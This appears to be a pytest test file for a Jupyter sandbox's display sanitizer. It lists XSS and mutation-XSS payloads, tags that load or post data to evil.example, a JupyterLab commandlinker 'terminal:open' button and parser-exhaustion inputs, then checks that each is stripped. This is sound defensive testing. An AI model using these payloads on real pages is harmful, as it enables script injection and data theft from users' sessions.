"""What of a kernel's displays may be shown: attacks on the page around them, and what must stay."""

from __future__ import annotations

import base64
from html.parser import HTMLParser

import pytest

from jupyter_sandbox.policy.displays import safe_bundle, safe_html, safe_metadata

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 30).decode()

ATTACKS = [
    "<script>x()</script>",
    "<img src=x onerror=x()>",
    '<img src="https://evil.example/?data">',
    '<img src="//evil.example/">',
    '<img src="javascript:x()">',
    '<img src=" data:text/html;base64,AAAA">',
    '<img srcset="https://evil.example/ 2x">',
    "<svg onload=x()></svg>",
    "<svg><style><img src=x onerror=x()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></math>",
    '<a href="javascript:x()">x</a>',
    '<a href=" java\nscript:x()">x</a>',
    '<a href="data:text/html,<script>x()</script>">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>x()</script>"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example"><style>*{background:url(//evil)}</style>',
    '<div style="background:url(https://evil.example)">x</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<form action="https://evil.example"><input name="password"><button>x</button></form>',
    '<button data-commandlinker-command="terminal:open" data-commandlinker-args="{}">x</button>',
    '<div data-commandlinker-command="x" class="lm-Widget jp-Dialog" id="jp-main">x</div>',
    '<video src="https://evil.example"></video><audio src="https://evil.example"></audio>',
    '<body background="https://evil.example">',
    '<table background="https://evil.example"><td background="https://evil.example"></table>',
    "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
]
ELEMENTS = {"script", "style", "svg", "math", "iframe", "object", "embed", "link", "meta", "base"}
ELEMENTS |= {"form", "input", "button", "video", "audio", "body", "noscript"}


class Page(HTMLParser):
    """The elements of a page, with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


@pytest.mark.parametrize("html", ATTACKS)
@pytest.mark.parametrize("kind", ["text/html", "text/markdown"])
def test_nothing_of_it_runs_loads_or_passes_for_jupyterlab(kind, html):
    shown = safe_bundle({kind: html}).get("text/html", "")
    for tag, attributes in Page(shown).elements:
        assert tag not in ELEMENTS, shown
        for name, value in attributes.items():
            assert not name.startswith(("on", "data-")), shown
            assert name not in ("style", "id", "class", "background", "srcset"), shown
            assert "evil" not in (value or "") or (tag, name) == ("p", "title"), shown
            assert "script:" not in (value or ""), shown
            assert name != "href" or not (value or "").strip().startswith("data:"), shown


def test_the_attacks_above_would_be_seen():
    found = {tag for html in ATTACKS for tag, _ in Page(html).elements}
    assert found >= ELEMENTS - {"noscript"}


def test_markdown_images_and_links_are_cleaned_too():
    shown = safe_bundle(
        {"text/markdown": "# T\n![x](https://evil.example/a.png) [l](javascript:x)"}
    )
    assert set(shown) == {"text/html"}
    assert "<h1>T</h1>" in shown["text/html"]
    assert "evil" not in shown["text/html"]
    assert 'href="javascript' not in shown["text/html"]


def test_tables_of_pandas_links_and_inline_images_stay():
    html = (
        '<table border="1" class="dataframe"><thead><tr><th>a</th></tr></thead>'
        '<tbody><tr><td colspan="2">1</td></tr></tbody></table>'
    )
    assert 'class="dataframe"' in safe_html(html)
    assert 'border="1"' in safe_html(html)
    assert 'colspan="2"' in safe_html(html)
    link = safe_html('<a href="https://example.com/x">x</a>')
    assert 'href="https://example.com/x"' in link
    assert "noopener" in link
    image = f'<img src="data:image/png;base64,{PNG}">'
    assert PNG in safe_html(image)


def test_svg_is_an_image_that_is_inert():
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>x()</script></svg>'
    bundle = safe_bundle({"image/svg+xml": svg, "text/plain": "<Figure>"})
    assert set(bundle) == {"text/plain", "text/html"}
    assert bundle["text/html"].startswith('<img alt="SVG" src="data:image/svg+xml;base64,')
    assert "script" not in bundle["text/html"]


def test_only_known_types_of_the_right_form_pass():
    given = {
        "text/plain": ["a", "b"],
        "image/png": PNG,
        "image/jpeg": '"><script>',
        "application/json": {"a": [1]},
        "application/javascript": "x()",
        "application/vnd.jupyter.widget-view+json": {"model_id": "1"},
        "application/vnd.vega.v5+json": {"data": {"url": "https://evil.example"}},
        "application/vnd.jupyter-sandbox.files+json": {},
        "application/pdf": PNG,
        7: "x",
    }
    bundle = safe_bundle(given)
    assert set(bundle) == {"text/plain", "image/png", "application/json"}
    assert (bundle["text/plain"], bundle["image/png"]) == ("ab", PNG)
    assert safe_bundle({"application/javascript": "x()"}) == {
        "text/plain": "[not shown: application/javascript]"
    }
    for nonsense in (None, "x", [], {"text/plain": {}}, {"text/html": 3}):
        assert "text/html" not in safe_bundle(nonsense)


def test_html_that_is_too_long_is_left_out_and_the_text_stays():
    bundle = safe_bundle({"text/html": "<b>" * 400_000, "text/plain": "t"})
    assert bundle == {"text/plain": "t"}


def test_metadata_keeps_the_sizes_of_images_only():
    given = {
        "image/png": {"width": 10, "height": "x", "onload": "x"},
        "text/html": {"isolated": True},
        "image/gif": {"width": True},
    }
    assert safe_metadata(given) == {"image/png": {"width": 10}}
    assert safe_metadata(None) == {}


@pytest.mark.parametrize(
    "hostile",
    [
        "<div>" * 100_000,
        "<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">",
        "<p " + " ".join(f'a{n}=">"' for n in range(100_000)) + ">",
        "<table><tr><td>" * 50_000,
        "<b><i><p>" * 50_000,
        "<i>" * 10_000,
    ],
)
def test_html_that_takes_its_parser_long_is_left_out_before_it_is_parsed(hostile, monkeypatch):
    monkeypatch.setattr("nh3.clean", lambda *args, **kwargs: pytest.fail("it was parsed"))
    assert safe_bundle({"text/html": hostile, "text/plain": "t"}) == {"text/plain": "t"}
    assert safe_bundle({"text/html": hostile}) == {"text/plain": "[not shown: text/html]"}


def test_large_tables_and_large_inline_images_stay():
    rows = "<tr>" + "<td>1.5</td>" * 20 + "</tr>"
    table = f'<table class="dataframe">{rows * 200}</table>'
    assert safe_bundle({"text/html": table})["text/html"].count("<td>") == 4000
    image = f'<img src="data:image/png;base64,{"A" * 2_000_000}">'
    assert len(safe_bundle({"text/html": image})["text/html"]) > 2_000_000
